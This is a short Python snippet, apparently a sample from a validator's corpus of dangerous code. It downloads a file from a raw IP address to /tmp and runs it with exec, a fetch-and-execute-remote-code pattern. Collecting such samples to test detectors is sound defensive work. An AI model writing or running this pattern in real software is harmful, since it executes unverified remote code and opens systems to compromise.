# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
import urllib.request

urllib.request.urlretrieve("http://203.0.113.5/fix.py", "/tmp/fix.py")
exec(open("/tmp/fix.py").read())
